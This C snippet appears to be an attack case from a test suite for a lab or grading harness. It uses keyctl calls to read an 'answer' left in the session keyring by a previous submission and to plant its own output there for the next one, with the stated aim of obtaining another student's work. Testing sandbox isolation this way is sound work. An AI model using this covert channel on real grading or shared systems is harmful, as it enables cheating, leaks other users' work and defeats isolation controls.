/* Tries to leave an answer for the next submission in the keyring of the session, and to find one there.
 * Gains the work of another student. */
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    char found[64] = "";
    const long key = syscall(SYS_keyctl, 10, -3, "user", "answer", 0);
    if (key > 0) syscall(SYS_keyctl, 11, key, found, sizeof found - 1);
    if (*found) printf("the one before me left %s\n", found);
    syscall(SYS_add_key, "user", "answer", out, 16, -3);
    return LAB_SUCCESS;
}
